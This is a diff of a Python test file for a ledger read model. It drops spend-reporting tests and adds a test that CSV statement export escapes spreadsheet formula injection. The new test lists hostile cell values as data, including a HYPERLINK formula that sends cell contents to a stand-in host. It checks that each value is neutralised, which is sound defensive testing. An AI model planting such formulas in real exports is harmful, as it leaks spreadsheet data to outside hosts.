@@ -1,6 +1,7 @@
-"""The ledger in the read model: rows with their offsets, repeats, statements, spend."""
+"""The ledger in the read model: rows with their offsets, repeats, statements."""
 
-import time
+import csv
+import io
 
 import msgspec
 import pytest
@@ -13,7 +14,6 @@ from pipeline.store.database import open_database
 from pipeline.store.queries import ReadModel
 from pipeline.store.writer import Moved, Writer
 from schemas.ledger import SIDES, Kind, LedgerEntry
-from schemas.states import Detailed
 
 UNIT = 1_000_000
 
@@ -83,7 +83,7 @@ def test_statuses_and_entries_are_one_transaction(store, monkeypatch):
     monkeypatch.setattr(writer, "_upsert_offsets", "this is no SQL")
     moved = Moved("ledger", [msgspec.json.encode(entry(1))], {0: 1})
     with pytest.raises(Exception, match="syntax"):
-        writer.write("status", [(encode(status(1, 1)), None)], {0: 1}, moved)
+        writer.write("status", [(encode(status(1, 1)), None, None)], {0: 1}, moved)
     assert (model.counts(), model.last_movement("acme")) == ({}, None)
 
 
@@ -120,47 +120,17 @@ def test_pages_hold_all_once_whatever_the_limit(store, monkeypatch):
     assert "".join(chunks).splitlines()[1].startswith("25,2026-11-22T10:00:25.000Z,penalty,0.01,99.75,1.50,98.25,EUR,")
 
 
-def test_spend_is_what_carriers_took(store):
+def test_what_people_wrote_is_no_formula_in_a_spreadsheet(store):
     writer, model = store
-    day = 24 * 3600
-    noon = 1_800_000_000 // day * day + day // 2
-
-    def message(number, state, *, at=noon, **more):
-        fields = {
-            "id": f"{at:08x}{number:016x}",
-            "carrier_reference": None,
-            "message_count": 2,
-            "total_price": "0.1005",
-        }
-        return status(number, 3, state, **(fields | more))
-
-    records = [
-        message(1, Detailed.DELIVERED),
-        message(2, Detailed.SUBMITTED, country_code="DE", carrier="telco", total_price="1.00"),
-        message(3, Detailed.UNDELIVERABLE, carrier_reference="c3", at=noon + day),
-        message(4, Detailed.REJECTED),  # by the carrier
-        message(5, Detailed.IN_DOUBT),
-        message(6, Detailed.DELIVERED, dry_run=True),
-        message(7, Detailed.DELIVERED, account="globex"),
-        message(8, Detailed.DELIVERED, at=noon - 9 * day),
-        message(9, Detailed.DELIVERED, total_price="0.000001", message_count=1),
-    ]
-    writer.write("status", [(encode(record), None) for record in records], {0: 1})
-
-    def spend(by, since=noon - day, until=noon + 2 * day):
-        return [(one.key, one.messages, one.parts, one.amount) for one in model.spend("acme", by, since, until)]
-
-    first = time.strftime("%Y-%m-%d", time.gmtime(noon))
-    second = time.strftime("%Y-%m-%d", time.gmtime(noon + day))
-    assert spend("day") == [(first, 3, 5, 1_100_501), (second, 1, 2, 100_500)]
-    assert spend("country") == [("DE", 1, 2, 1_000_000), ("IT", 3, 5, 201_001)]
-    assert spend("carrier", until=noon + day) == [("telco", 1, 2, 1_000_000), ("sim", 2, 3, 100_501)]
-    assert spend("day", noon + 1) == [(second, 1, 2, 100_500)]
-    told = statement.told_spend("country", model.spend("acme", "country", noon, noon + 1)[0])
-    assert told == {"country": "DE", "messages": 1, "parts": 2, "amount": "1.00", "currency": "EUR"}
-
-
-def test_the_period_that_spend_is_asked_of():
-    day, now = 24 * 3600, 1_800_000_000_123
-    assert statement.period(None, None, now) == ((1_800_000_000 // day - 29) * day, 1_800_000_001)
-    assert statement.period(1_500, 10_000, now) == (2, 10)
+    evil = ['=HYPERLINK("http://x.invalid?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
+    put(writer, *(
+        entry(n, Kind.ADJUSTMENT, request_id=cell, reference=cell, reason=cell, bundle=cell, balance="-5.00")
+        for n, cell in enumerate(evil, 1)
+    ), entry(8, reason="a=b, 'quoted' - and @home"))  # fmt: skip
+    chunks = "".join(statement.csv_chunks([model.movements("acme", limit=10)]))
+    plain, *rows = csv.DictReader(io.StringIO(chunks, newline=""))
+    assert (plain["reason"], plain["reference"], plain["balance"]) == ("a=b, 'quoted' - and @home", "", "99.92")
+    for row, cell in zip(reversed(rows), evil, strict=True):
+        assert [row[name] for name in ("requestId", "reference", "reason", "bundle")] == [f"'{cell}"] * 4
+        assert (row["balance"], row["available"], row["amount"]) == ("-5.00", "-6.50", "0.01")
+    assert statement.told(model.movements("acme", limit=10)[-1])["reason"] == evil[0]  # JSON has it as it was written
